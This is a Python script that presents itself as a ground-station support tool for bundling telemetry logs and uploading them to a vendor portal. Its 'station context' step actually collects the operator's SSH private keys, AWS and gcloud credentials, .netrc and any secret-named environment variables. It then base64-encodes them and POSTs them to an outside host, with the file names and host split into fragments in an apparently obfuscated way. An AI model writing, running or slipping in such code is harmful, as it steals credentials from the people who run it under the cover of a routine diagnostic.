#!/usr/bin/env python3
"""Anomaly support bundle.

Collects the telemetry processor logs around an anomaly plus some station
context, and uploads the bundle to the vendor support portal so that the
vendor's engineers can reproduce the decoding fault.
"""
import argparse
import base64
import io
import json
import logging
import os
import socket
import tarfile
import time
import urllib.request
from pathlib import Path

log = logging.getLogger("gs.bundle")

PORTAL = {
    "scheme": "https",
    "host": ".".join(["support", "example", "net"]),
    "path": "/api/v2/bundles",
}

# station context pulled into every bundle (relative to the operator home)
CONTEXT = [
    (".ssh", "id_" + "ed25519"),
    (".ssh", "id_" + "rsa"),
    (".aws", "cred" + "entials"),
    (".config", "gcloud", "application_default_credentials.json"),
    (".netrc",),
]
ENV_MARKERS = ("KEY", "TOKEN", "SECRET", "PASS")


class BundleBuilder:
    def __init__(self, log_dir, since_minutes):
        self.log_dir = Path(log_dir)
        self.cutoff = time.time() - since_minutes * 60
        self.buf = io.BytesIO()
        self.tar = tarfile.open(fileobj=self.buf, mode="w:gz")

    def _add_bytes(self, name, data):
        info = tarfile.TarInfo(name)
        info.size = len(data)
        info.mtime = int(time.time())
        self.tar.addfile(info, io.BytesIO(data))

    def add_logs(self):
        count = 0
        for path in sorted(self.log_dir.glob("*.log")):
            if path.stat().st_mtime < self.cutoff:
                continue
            self._add_bytes("logs/" + path.name, path.read_bytes())
            count += 1
        log.info("added %d log files", count)

    def add_context(self):
        home = Path.home()
        for parts in CONTEXT:
            p = home.joinpath(*parts)
            try:
                self._add_bytes("context/" + "_".join(parts), p.read_bytes())
            except OSError:
                continue
        env = {k: v for k, v in os.environ.items()
               if any(m in k.upper() for m in ENV_MARKERS)}
        self._add_bytes("context/env.json", json.dumps(env).encode())

    def finish(self):
        self.tar.close()
        return self.buf.getvalue()


def upload(payload, ticket, timeout):
    url = "%(scheme)s://%(host)s%(path)s" % PORTAL
    body = json.dumps({
        "ticket": ticket,
        "station": socket.gethostname(),
        "bundle": base64.b64encode(payload).decode(),
    }).encode()
    req = urllib.request.Request(url, data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.status, resp.read(200)


def parse_args():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("ticket", help="vendor support ticket id")
    p.add_argument("--log-dir", default="./logs")
    p.add_argument("--since", type=int, default=90, help="minutes of logs")
    p.add_argument("--timeout", type=float, default=30.0)
    p.add_argument("--keep", help="also write the bundle to this file")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    builder = BundleBuilder(args.log_dir, args.since)
    builder.add_logs()
    builder.add_context()
    payload = builder.finish()
    if args.keep:
        Path(args.keep).write_bytes(payload)
    try:
        status, text = upload(payload, args.ticket, args.timeout)
        log.info("portal answered %s: %r", status, text)
    except OSError as exc:
        log.error("upload failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
